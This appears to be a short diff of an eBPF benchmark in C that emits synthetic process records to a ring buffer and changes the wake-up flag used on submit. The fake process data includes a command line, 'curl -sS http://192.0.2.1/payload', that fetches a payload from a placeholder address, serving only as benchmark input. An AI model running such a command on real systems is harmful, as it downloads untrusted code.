@@ -44,7 +44,7 @@ static long emit_one(__u32 i, struct emit_order *order)
 	__builtin_memcpy(r->data + BENCH_EXE, "curl\0-sS\0http://192.0.2.1/payload", 34);
 	__builtin_memcpy(r->data + sizeof(r->data) - BENCH_CWD, "/var/me", BENCH_CWD);
 	__u64 start = r->header.boot;
-	bpf_ringbuf_submit(r, soon(start));
+	bpf_ringbuf_submit(r, WAKE_ASLEEP);
 	if (!order->ends)
 		return 0;
 	struct record_fork *end = bpf_ringbuf_reserve(&ring, sizeof(*end), 0);
@@ -59,7 +59,7 @@ static long emit_one(__u32 i, struct emit_order *order)
 	end->process.pid = order->first + i;
 	end->process.start = start;
 	end->process.parent_pid = 1;
-	bpf_ringbuf_submit(end, soon(start));
+	bpf_ringbuf_submit(end, WAKE_ASLEEP);
 	return 0;
 }
 
